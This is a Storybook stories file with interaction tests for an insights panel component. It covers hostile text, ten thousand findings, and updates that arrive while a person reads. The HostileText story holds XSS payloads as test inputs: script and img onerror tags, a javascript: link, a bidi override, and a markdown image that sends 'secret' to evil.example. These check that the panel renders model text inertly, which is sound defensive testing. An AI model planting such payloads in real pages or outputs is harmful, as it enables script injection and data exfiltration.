import type { Meta, StoryObj } from '@storybook/react-vite';
import { useState } from 'react';
import { expect, fn, waitFor } from 'storybook/test';
import {
  CognitiveInsightsPanel,
  type Insight,
  type InsightAction,
} from '@auterity/shared-components';
import type { ToolbarGlobals } from '../.storybook/toolbars';
import { buildInsight } from '../src/test/buildInsight';
import { now } from './insights/storyData';
import { whole } from './insights/whole';

/** Hostile texts, ten thousand findings, and a list that changes under a reader. */
const meta = {
  title: 'Components/CognitiveInsightsPanel/Hard cases',
  component: CognitiveInsightsPanel,
  args: { now, onAction: fn() },
  argTypes: {
    insights: { control: false },
    predictions: { control: false },
    decisions: { control: false },
    ref: { table: { disable: true } },
  },
  render: (args, { globals }) => (
    <CognitiveInsightsPanel locale={(globals as unknown as ToolbarGlobals).locale} {...args} />
  ),
} satisfies Meta<typeof CognitiveInsightsPanel>;

export default meta;
type Story = StoryObj<typeof meta>;

/** A model's text is text: markup, links and spells do nothing, and its height is bounded. */
export const HostileText: Story = {
  args: {
    insights: [
      buildInsight({
        title: '<img src=x onerror=alert(1)> ![x](https://evil.example/?q=secret)',
        summary: `[click](javascript:alert(1)) \u202Egnirts desrever\u202C ${'long '.repeat(9_000)}`,
        recommendations: ['<script>alert(1)</script>'],
        affected: Array.from({ length: 400 }, (_, index) => `system ${index}`),
      }),
    ],
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('img, script, a')).toBeNull();
    await expect(canvas.getByRole('article').getBoundingClientRect().height).toBeLessThan(320);
  },
};

/** Ten thousand findings: at most 60 are drawn, the rest are a press away. */
export const TenThousand: Story = {
  args: {
    insights: Array.from({ length: 10_000 }, (_, index) =>
      buildInsight({
        id: `i${index}`,
        title: `Finding ${index}`,
        severity: (['critical', 'high', 'medium', 'low'] as const)[index % 4] ?? null,
      }),
    ),
  },
  play: async ({ canvas, userEvent }) => {
    for (let press = 0; press < 4; press++) {
      await userEvent.click(await canvas.findByRole('button', { name: 'Show 20 more' }));
    }
    const cards = canvas.getAllByRole('article');
    await expect(cards.length).toBeLessThanOrEqual(60);
    await waitFor(() => expect(cards.some((card) => card === document.activeElement)).toBe(true));
  },
};

/** What comes while a person reads waits behind a button, so that nothing moves under their eyes. */
export const ArrivesWhileReading: Story = {
  render: function Render(args) {
    const [insights, setInsights] = useState<readonly Insight[]>([
      buildInsight({ id: 'a' }),
      buildInsight({ id: 'b', title: 'Cost rises' }),
    ]);
    const onAction = (action: InsightAction) => {
      if (action.kind !== 'rate') return;
      setInsights([
        buildInsight({ id: 'new', title: 'Database is down', severity: 'critical' }),
        ...insights,
      ]);
    };
    return <CognitiveInsightsPanel {...args} insights={insights} onAction={onAction} />;
  },
  play: async ({ canvas, canvasElement, userEvent }) => {
    await whole(canvasElement);
    const second = canvas.getByRole('article', { name: /Cost rises/ });
    second.focus();
    await userEvent.keyboard('+');
    await expect(await canvas.findByText('1 new insight, 1 critical')).toBeInTheDocument();
    await expect(second).toHaveFocus();
    await expect(canvas.queryByRole('article', { name: /Database/ })).toBeNull();
    await userEvent.click(canvas.getByRole('button', { name: 'Show 1 new insight' }));
    await waitFor(() =>
      expect(canvas.getByRole('article', { name: /Database is down/ })).toHaveFocus(),
    );
  },
};
